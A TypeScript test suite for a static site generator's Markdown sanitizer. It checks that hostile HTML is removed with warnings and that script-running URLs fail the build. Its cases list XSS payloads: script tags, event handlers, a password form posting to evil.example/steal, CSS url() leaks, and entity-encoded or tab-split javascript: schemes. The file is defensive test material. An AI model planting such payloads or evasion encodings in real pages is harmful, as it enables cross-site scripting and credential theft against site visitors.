import assert from 'node:assert/strict';
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { test } from 'node:test';
import { Cache } from '../../cli/cache/cache.ts';
import { collectSiteErrors, SiteError } from '../../cli/errors.ts';
import { buildSite } from '../../cli/pipeline/build-site.ts';
import { applyEmbedRule } from '../../cli/render/markdown/markdown-embeds.ts';
import { renderMarkdown } from '../../cli/render/markdown/render-markdown.ts';
import { MemoryWriter } from '../../cli/write/writers.ts';
import { tinyContentCopy } from '../helpers/build-output.ts';
import { startTestDevServer } from '../helpers/dev-server.ts';
import { tinyRoot, tinySite } from '../helpers/sites.ts';

// Hostile HTML in a Markdown body never reaches a page: each case is checked on the rendered
// body and on the post page a build of the tiny site writes. What the sanitizer removes is a
// warning at its line; a URL with a scheme that could run script fails the build at its line.

const frontMatter = (title: string) => `---\ntitle: ${JSON.stringify(title)}\ndate: 2024-02-01\n---\n\n`;

interface Case {
  name: string;
  markdown: string;
  /** Never in the body's HTML or the built page's article (compared in lower case). */
  gone: string[];
  /** The warnings the body gets, each as `line:column message` in the post file. */
  warned: string[];
  /** Still in the article: the text around the hostile part. */
  kept?: string[];
}

const cases: Case[] = [
  {
    name: 'script',
    markdown: 'Before.\n\n<script>window.__pwned = 1</script>\n\nAfter.',
    gone: ['<script', '__pwned'],
    warned: ['8:1 <script> removed'],
    kept: ['After.'],
  },
  {
    name: 'event handlers',
    markdown:
      '<a href="/" onclick="pwn()" onmouseover="pwn()">home</a> <img src="/images/square.svg" alt="A square" onerror="pwn()">',
    gone: ['onclick', 'onmouseover', 'onerror', 'pwn('],
    warned: ['6:1 onclick on <a> removed', '6:1 onmouseover on <a> removed', '6:58 onerror on <img> removed'],
    kept: ['>home</a>'],
  },
  {
    name: 'srcdoc',
    markdown: '<iframe srcdoc="&lt;script&gt;pwn()&lt;/script&gt;"></iframe>',
    gone: ['srcdoc', 'pwn(', '<iframe'],
    warned: ['6:1 srcdoc on <iframe> removed', '6:1 <iframe> removed: an embed needs an https src'],
  },
  {
    name: 'style with url()',
    markdown:
      '<div style="background:url(https://evil.example/leak)">Styled</div>\n\n<style>body { background: url(https://evil.example/leak2) }</style>',
    gone: ['evil.example', 'style=', '<style'],
    warned: ['6:1 style on <div> removed', '8:1 <style> removed'],
    kept: ['Styled'],
  },
  {
    name: 'SVG with a script',
    markdown: '<svg onload="pwn()"><script>pwn()</script><text>Label</text></svg>',
    gone: ['<svg', 'pwn(', 'onload'],
    warned: ['6:1 <svg> removed'],
  },
  {
    name: 'base',
    markdown: '<base href="https://evil.example/">\n\n[A link](/posts/hello/)',
    gone: ['<base', 'evil.example'],
    warned: ['6:1 <base> removed'],
    kept: ['href="/posts/hello/"'],
  },
  {
    name: 'meta refresh',
    markdown: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    gone: ['<meta', 'evil.example', 'refresh'],
    warned: ['6:1 <meta> removed'],
  },
  {
    name: 'form',
    markdown:
      '<form action="https://evil.example/steal" method="post"><label>Password <input type="password" name="password"></label><button>Sign in</button></form>',
    gone: ['<form', '<input', '<button', 'evil.example', 'password'],
    warned: ['6:1 <form> removed'],
  },
  {
    name: 'object and embed',
    markdown: '<object data="https://evil.example/x.swf"><embed src="https://evil.example/y.swf"></object>',
    gone: ['<object', '<embed', 'evil.example'],
    warned: ['6:1 <object> removed'],
  },
  {
    name: 'iframe from an unknown host',
    markdown: 'Watch:\n\n<iframe src="https://evil.example/frame" width="560"></iframe>',
    gone: ['<iframe', 'evil.example', 'sitegen-embed'],
    warned: ['8:1 <iframe src=https://evil.example/frame> removed: only videos from video.example are embedded'],
    kept: ['Watch:'],
  },
  {
    name: 'mixed-case tags',
    markdown:
      '<ScRiPt>pwn()</sCrIpT>\n\n<IMG SRC="/images/square.svg" ALT="A square" OnErRoR="pwn()">\n\n<A HREF="/" ONCLICK="pwn()">home</A>',
    gone: ['pwn(', 'onerror', 'onclick', '<script'],
    warned: ['6:1 <script> removed', '8:1 onerror on <img> removed', '10:1 onclick on <a> removed'],
    kept: ['>home</a>'],
  },
  {
    name: "a link and an element in the page's own namespace",
    markdown: '<div id="main" class="island" data-island="VideoFacade">Fake</div>',
    gone: ['id="main"', 'class="island"', 'data-island'],
    warned: ['6:1 class on <div> removed', '6:1 data-island on <div> removed'],
    kept: ['Fake', 'id="user-content-main"'],
  },
  {
    name: 'names that would clobber the document',
    markdown: '<a name="getElementById" aria-describedby="main">x</a>',
    gone: ['name="getElementById"', 'aria-describedby="main"'],
    warned: [],
    kept: ['name="user-content-getElementById"', 'aria-describedby="user-content-main"'],
  },
];

test('each hostile piece of HTML is removed from the rendered body, with a warning at its line and column', async () => {
  for (const { name, markdown, gone, warned, kept } of cases) {
    const body = await renderMarkdown(markdown, 6);
    const { body: shown, warnings } = applyEmbedRule(body, tinySite.definition.markdown?.embeds);
    for (const text of gone)
      assert.ok(!shown.html.toLowerCase().includes(text.toLowerCase()), `${name}: ${text} in ${shown.html}`);
    for (const text of kept ?? []) assert.ok(shown.html.includes(text), `${name}: ${text} kept in ${shown.html}`);
    assert.deepEqual(
      [...(body.warnings ?? []), ...warnings].map((warning) => `${warning.line}:${warning.column} ${warning.message}`),
      warned,
      name,
    );
    assert.equal(body.problems, undefined, name);
  }
});

test(
  'a build of the tiny site publishes none of it and returns every warning at its file and line',
  { timeout: 120_000 },
  async () => {
    const { content, cleanup } = await tinyContentCopy();
    try {
      const files = cases.map((_, index) => path.join(content, 'posts', `hostile-${index}.md`));
      await Promise.all(
        cases.map((entry, index) => writeFile(files[index]!, `${frontMatter(entry.name)}${entry.markdown}\n`)),
      );
      const writer = new MemoryWriter();
      const result = await buildSite({
        root: tinyRoot,
        site: tinySite,
        contentDir: content,
        writer,
        checkLinks: false,
        cache: new Cache(undefined),
      });
      for (const [index, { name, gone, warned, kept }] of cases.entries()) {
        const page = writer.text(`posts/hostile-${index}/index.html`)!;
        const article = page.slice(page.indexOf('<article>'), page.indexOf('</article>'));
        for (const text of gone)
          assert.ok(!article.toLowerCase().includes(text.toLowerCase()), `${name}: ${text} in the page: ${article}`);
        for (const text of kept ?? []) assert.ok(article.includes(text), `${name}: ${text} kept in the page`);
        const mine = result.warnings.filter(
          (warning): warning is SiteError => warning instanceof SiteError && warning.file === files[index],
        );
        assert.deepEqual(
          mine.map((warning) => `${warning.line}:${warning.column} ${warning.message}`),
          warned,
          name,
        );
        assert.ok(mine.every((warning) => warning.code === 'markdown.html-removed'));
      }
    } finally {
      await cleanup();
    }
  },
);

/** URLs that would run script, each written as an author (or an attacker) might hide it. */
const unsafeUrls = [
  { name: 'javascript: in href', markdown: '<a href="javascript:alert(1)">x</a>', line: 6, column: 1 },
  { name: 'javascript: in src', markdown: '<img src="javascript:alert(1)" alt="x">', line: 6, column: 1 },
  {
    name: 'entity-encoded scheme',
    markdown: 'Text.\n\n<a href="jav&#x61;script&#58;alert(1)">x</a>',
    line: 8,
    column: 1,
  },
  {
    name: 'scheme split by a tab and an entity newline',
    markdown: '<a href="java&#x09;scr&#10;ipt:alert(1)">x</a>',
    line: 6,
    column: 1,
  },
  { name: 'upper-case vbscript:', markdown: '<A HREF="VBScript:msgbox(1)">x</A>', line: 6, column: 1 },
  {
    name: 'data: in an iframe src',
    markdown: '<iframe src="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    line: 6,
    column: 1,
  },
  {
    name: 'javascript: in a form action',
    markdown: '<form action="javascript:alert(1)"><button>Go</button></form>',
    line: 6,
    column: 1,
  },
  {
    name: 'data: in a blockquote cite',
    markdown: 'Quote:\n\n<blockquote cite="data:text/html,x">Q</blockquote>',
    line: 8,
    column: 1,
  },
];

test(
  'a URL with a scheme that could run script fails the build at its line, whatever the element and however it is written',
  { timeout: 120_000 },
  async () => {
    for (const { name, markdown, line, column } of unsafeUrls) {
      const body = await renderMarkdown(markdown, 6);
      assert.deepEqual(
        body.problems?.map((problem) => `${problem.line}:${problem.column} ${problem.code}`),
        [`${line}:${column} markdown.unsafe-url`],
        name,
      );
      assert.doesNotMatch(body.html, /script:|data:/i, name);
    }
    const { content, cleanup } = await tinyContentCopy();
    try {
      const files = unsafeUrls.map((_, index) => path.join(content, 'posts', `unsafe-${index}.md`));
      await Promise.all(
        unsafeUrls.map((entry, index) => writeFile(files[index]!, `${frontMatter(entry.name)}${entry.markdown}\n`)),
      );
      const writer = new MemoryWriter();
      const error = await buildSite({
        root: tinyRoot,
        site: tinySite,
        contentDir: content,
        writer,
        checkLinks: false,
        cache: new Cache(undefined),
      }).then(
        () => undefined,
        (thrown: unknown) => thrown,
      );
      const errors = collectSiteErrors(error) ?? [];
      assert.deepEqual(
        errors.map((found) => `${path.basename(found.file!)}:${found.line}:${found.column} ${found.code}`).sort(),
        unsafeUrls.map((entry, index) => `unsafe-${index}.md:${entry.line}:${entry.column} markdown.unsafe-url`).sort(),
      );
      assert.equal(writer.files.size, 0, 'nothing is published');
    } finally {
      await cleanup();
    }
  },
);

test(
  'an element never closed fails the build at its line instead of taking in the rest of the post',
  { timeout: 120_000 },
  async () => {
    const { content, cleanup } = await tinyContentCopy();
    try {
      const file = path.join(content, 'posts', 'swallowing.md');
      await writeFile(
        file,
        `${frontMatter('Swallowing')}Intro.\n\n<textarea>\n\nThe **rest** of the post, which the textarea would take in.\n`,
      );
      const error = await buildSite({
        root: tinyRoot,
        site: tinySite,
        contentDir: content,
        writer: new MemoryWriter(),
        checkLinks: false,
        cache: new Cache(undefined),
      }).then(
        () => undefined,
        (thrown: unknown) => thrown,
      );
      assert.deepEqual(
        collectSiteErrors(error)?.map((found) => `${found.file}:${found.line}:${found.column} ${found.code}`),
        [`${file}:8:1 markdown.unclosed-html`],
      );
    } finally {
      await cleanup();
    }
  },
);

test(
  "an accepted iframe's slot is filled by the site; the build reports the refused one",
  { timeout: 120_000 },
  async () => {
    const { content, cleanup } = await tinyContentCopy();
    try {
      const file = path.join(content, 'posts', 'videos.md');
      await writeFile(
        file,
        `${frontMatter('Videos')}<iframe src="https://video.example/42" title="Demo"></iframe>\n\n<iframe src="https://evil.example/1"></iframe>\n`,
      );
      const writer = new MemoryWriter();
      const result = await buildSite({
        root: tinyRoot,
        site: tinySite,
        contentDir: content,
        writer,
        checkLinks: false,
        cache: new Cache(undefined),
      });
      const page = writer.text('posts/videos/index.html')!;
      assert.ok(
        page.includes('<iframe src="https://video.example/42" title="Demo"></iframe>'),
        "the tiny site fills the accepted embed's slot",
      );
      assert.ok(!page.includes('evil.example'));
      const warnings = result.warnings.filter(
        (warning): warning is SiteError => warning instanceof SiteError && warning.file === file,
      );
      assert.deepEqual(
        warnings.map((warning) => `${warning.line}:${warning.column} ${warning.message}`),
        ['8:1 <iframe src=https://evil.example/1> removed: only videos from video.example are embedded'],
      );
    } finally {
      await cleanup();
    }
  },
);

test('a page taken from the page cache still reports the warnings of its body', { timeout: 120_000 }, async () => {
  const { dir, content, cleanup } = await tinyContentCopy();
  try {
    const file = path.join(content, 'posts', 'cached.md');
    await writeFile(
      file,
      `${frontMatter('Cached')}Text <span onclick="pwn()">here</span>.\n\n<script>pwn()</script>\n`,
    );
    const build = () =>
      buildSite({
        root: tinyRoot,
        site: tinySite,
        contentDir: content,
        writer: new MemoryWriter(),
        checkLinks: false,
        cache: new Cache(path.join(dir, 'cache')),
      });
    const rows = (warnings: unknown[]) =>
      warnings
        .filter((warning): warning is SiteError => warning instanceof SiteError && warning.file === file)
        .map((warning) => `${warning.line}:${warning.column} ${warning.message}`);
    const first = await build();
    const second = await build();
    assert.equal(second.renderedPages, 0, 'every page came from the page cache');
    assert.deepEqual(rows(first.warnings), [
      '6:6 onclick on <span> removed: a keyboard cannot reach a <span> to click it',
      '8:1 <script> removed',
    ]);
    assert.deepEqual(rows(second.warnings), rows(first.warnings));
  } finally {
    await cleanup();
  }
});

test(
  'dev prints the warnings of every body after its first build, shows them over the page, and serves it without what was removed',
  { timeout: 120_000 },
  async () => {
    const { content, cleanup } = await tinyContentCopy();
    try {
      const file = path.join(content, 'posts', 'dev-html.md');
      await writeFile(file, `${frontMatter('Dev')}Text <span onclick="pwn()">here</span>.\n`);
      const { server, logs } = await startTestDevServer({
        root: tinyRoot,
        contentDir: content,
        cache: new Cache(undefined),
      });
      try {
        const page = await (await fetch(`${server.url}/posts/dev-html/`)).text();
        const served = page.replace(/<script>window\.__sitegenError=[\s\S]*?<\/script>/, '');
        assert.ok(!served.includes('onclick') && served.includes('<span>here</span>'), served);
        const row =
          'posts/dev-html.md:6:6  onclick on <span> removed: a keyboard cannot reach a <span> to click it  [accessibility.click-handler]';
        assert.ok(
          logs.some((text) => text.includes(row)),
          logs.join('\n'),
        );
        // The overlay of the page that shows the body has its warnings; a page without any has none.
        const overlayText = (html: string) =>
          JSON.parse(/window\.__sitegenWarnings=(.*?);\(/.exec(html)![1]!) as string | null;
        assert.ok(overlayText(page)?.includes(row), page);
        assert.equal(overlayText(await (await fetch(`${server.url}/posts/hello/`)).text()), null);
      } finally {
        await server.close();
      }
    } finally {
      await cleanup();
    }
  },
);
